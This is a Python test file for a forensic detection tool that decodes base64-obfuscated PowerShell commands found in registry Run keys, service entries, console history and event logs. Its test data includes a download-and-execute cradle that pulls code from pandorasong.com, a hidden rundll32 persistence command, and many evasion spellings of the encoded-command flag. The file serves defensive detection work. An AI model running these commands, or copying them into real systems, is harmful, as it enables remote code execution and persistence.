"""Commands in base64 are read, however the parameter is spelled, and their bytes are noticed."""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.formats import FormatError
from agent.matching.hidden_commands import (
    DECODED,
    ENCODED_COMMAND,
    ENCODED_COMMAND_IN_UTF_8,
    FROM_BASE64,
    IN_BASE64,
    MAX_DECODED,
    decoded_command,
    decoded_pieces,
)
from agent.model.report import Strength
from agent.sources.artefact import Artefact
from agent.sources.artefact_source import ArtefactSource
from agent.sources.logs.console_history import ConsoleHistory
from agent.sources.logs.event_logs import EventLogs
from agent.sources.registry.hives import Hives
from tests.evidence.hive_files import RUN, nested
from tests.evidence.hives import hive
from tests.evidence.logged_events import script_blocks
from tests.evidence.logs import event_log
from tests.evidence.sweeping import swept
from tests.evidence.windows_folder import CONFIG, FORMS, windows

COMMAND = "iex (New-Object Net.WebClient).DownloadString('https://pandorasong.com/x')"
NAME = "EncodedCommand"


def encoded(command: str = COMMAND) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


SPELLINGS = [
    *(f"powershell -{NAME[:length]} " for length in range(1, len(NAME) + 1)),
    "powershell.exe -NoP -W Hidden -eNc ",
    "powershell -ec ",
    "pwsh /e ",
    "powershell \u2013enc ",
    "powershell \u2015enc ",
    "powershell --enc ",
    "cmd /c powershell -e^n^c ",
    'powershell -e"nc" ',
    'powershell -"e"nc ',
    'powershell "-enc" ',
    'powershell -enc "',
    "powershell -enc '",
    "powershell -enc:",
    "powershell\t-enc\t",
]


@pytest.mark.parametrize("start", SPELLINGS)
def test_a_command_is_decoded_however_its_parameter_is_spelled(start: str) -> None:
    assert decoded_command(f"{start}{encoded()}") == COMMAND


@pytest.mark.parametrize("start", SPELLINGS)
def test_the_bytes_of_an_encoded_command_are_noticed(start: str) -> None:
    line = f"{start}{encoded()}".encode("utf-16-le")
    assert re.search(ENCODED_COMMAND.encode(), line)
    assert re.search(ENCODED_COMMAND_IN_UTF_8.encode(), f"{start}{encoded()}".encode())


@pytest.mark.parametrize(
    "line",
    [
        "powershell -ep bypass -File AAAAAAAAAAAAAAAAAAAAAAAA",
        "powershell -executionpolicy AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "tool --encode AAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        f"echo {encoded()}",
        "powershell -enc short",
        "",
    ],
)
def test_other_parameters_hide_no_command(line: str) -> None:
    assert decoded_command(line) == ""


def test_quotes_within_the_base64_are_taken_out() -> None:
    broken = f'{encoded()[:20]}""{encoded()[20:50]}"{encoded()[50:]}"'
    line = f"powershell -enc {broken}"
    assert COMMAND in decoded_command(line).splitlines()
    assert re.search(ENCODED_COMMAND.encode(), line.encode("utf-16-le"))


@pytest.mark.parametrize("more", ["# " + "Привет, мир. " * 50, "#" + "\u4e2d\u6587" * 200])
def test_a_command_in_any_script_is_one(more: str) -> None:
    command = f"{more}\n{COMMAND}"
    assert decoded_command(f"powershell -enc {encoded(command)}") == command


def test_bytes_that_are_no_text_are_no_command() -> None:
    noise = base64.b64encode(bytes(range(128, 256))).decode()
    assert decoded_command(f"powershell -e {noise}") == ""


def test_a_command_within_a_command_is_decoded_too() -> None:
    inner = f"powershell -enc {encoded()}"
    assert decoded_command(f"powershell -e {encoded(inner)}").splitlines() == [inner, COMMAND]


def test_base64_without_its_end_is_decoded_as_far_as_it_goes() -> None:
    found = decoded_command(f"powershell -e {encoded()[:61]}")
    assert len(found) == 22
    assert COMMAND.startswith(found)


def test_what_a_script_holds_as_base64_is_decoded_whatever_its_encoding() -> None:
    for data in (COMMAND.encode(), COMMAND.encode("utf-16-le")):
        text = f"$x = [Convert]::FromBase64String('{base64.b64encode(data).decode()}')"
        assert list(decoded_pieces(text)) == [data]
        assert re.search(FROM_BASE64.encode(), text.encode("utf-16-le"))


def test_what_is_decoded_is_decoded_again_as_long_as_it_holds_base64() -> None:
    text = "ping pandorasong.com"
    for encoding in ("utf-8", "utf-16-le", "utf-8", "utf-16-le", "utf-8"):
        text = f"FromBase64String('{base64.b64encode(text.encode(encoding)).decode()}')"
    assert list(decoded_pieces(text))[-1] == b"ping pandorasong.com"

    command = COMMAND
    for _ in range(6):
        command = f"powershell -enc {encoded(command)}"
    assert decoded_command(command).endswith(COMMAND)


def test_base64_in_lines_is_one() -> None:
    lines = base64.encodebytes(COMMAND.encode("utf-16-le") * 3).decode().replace("\n", "\r\n  ")
    assert next(decoded_pieces(f"'{lines}'")) == COMMAND.encode("utf-16-le") * 3


def test_every_piece_is_decoded() -> None:
    many = " ".join([base64.b64encode(bytes(30)).decode()] * 1_000)
    assert len(list(decoded_pieces(many))) == 1_000


def test_decoding_is_bounded_and_says_so() -> None:
    large = base64.b64encode(bytes(3 * MAX_DECODED)).decode()
    found: list[bytes] = []
    with pytest.raises(FormatError, match="more base64"):
        found.extend(decoded_pieces(large))
    assert 0 < sum(map(len, found)) <= MAX_DECODED
    assert decoded_command(f"powershell -e {large}") == ""


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80), st.text(alphabet="ABCDabcd0123+/=^ \"'-e", max_size=120))
def test_any_line_ends_in_text(before: str, after: str) -> None:
    for line in (before + after, f"powershell -enc {after}{before}"):
        assert isinstance(decoded_command(line), str)
        assert all(isinstance(piece, bytes) for piece in decoded_pieces(line))


HIDDEN = "rundll32 cyzfc.dat, PointFunctionCall"
LINE = f"powershell -nop -w hidden -enc {encoded(HIDDEN)}"
HISTORY = (
    r"C:\Users\jo\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt"
)


@pytest.mark.parametrize(
    ("artefact", "path", "data"),
    [
        (Hives(), r"C:\Users\jo\NTUSER.DAT", hive(nested(RUN, {"Updater": LINE}))),
        (
            Hives(),
            rf"{CONFIG}\SYSTEM",
            hive(nested(r"ControlSet001\Services\x", {"ImagePath": f"%COMSPEC% /c {LINE}"})),
        ),
        (ConsoleHistory(), HISTORY, f"whoami\n{LINE}\n".encode()),
    ],
)
def test_a_command_line_is_decoded_wherever_it_stands(
    artefact: Artefact, path: str, data: bytes, tmp_path: Path
) -> None:
    target = FORMS["folder"](tmp_path / "c", windows({path: data}))

    matches = swept(target, ArtefactSource(artefact)).matches()

    strong = {match.indicator.id for match in matches if match.strength is Strength.STRONG}
    assert "cmd-cyzfc-pointfunctioncall" in strong
    assert all(DECODED in match.observation.remarks for match in matches)


def test_base64_in_a_run_key_mentions_what_it_holds(tmp_path: Path) -> None:
    script = base64.b64encode(b"ping pandorasong.com").decode()
    line = f"powershell -c iex($u.GetString([Convert]::FromBase64String('{script}')))"
    files = windows({r"C:\Users\jo\NTUSER.DAT": hive(nested(RUN, {"Updater": line}))})

    sweep = swept(FORMS["folder"](tmp_path / "c", files), ArtefactSource(Hives()))

    (match,) = sweep.matches()
    assert (match.indicator.id, match.strength) == ("c2-domain", Strength.WEAK)
    assert IN_BASE64 in match.observation.remarks


@pytest.mark.parametrize("before", ["", "x", "xy"])
def test_a_name_in_base64_is_found_in_each_of_its_three_alignments(
    before: str, tmp_path: Path
) -> None:
    text = f"{before}rundll32 cyzfc.dat, PointFunctionCall"
    line = f"powershell -c iex($u.GetString([Convert]::FromBase64String('{encoded(text)}')))"
    event = event_log(script_blocks(line))
    place = r"C:\Windows\System32\winevt\Logs\Microsoft-Windows-PowerShell%4Operational.evtx"
    for artefact, path, data in (
        (EventLogs(), place, event),
        (ConsoleHistory(), HISTORY, f"whoami\n{line}\n".encode()),
        (Hives(), r"C:\Users\jo\NTUSER.DAT", hive(nested(RUN, {"Updater": line}))),
    ):
        folder = tmp_path / type(artefact).__name__
        target = FORMS["folder"](folder, windows({path: data}))
        sweep = swept(target, ArtefactSource(artefact))
        assert "name-cyzfc-dat" in {match.indicator.id for match in sweep.matches()}, artefact.name
        assert b"cyzfc" not in data.replace(b"\0", b"")
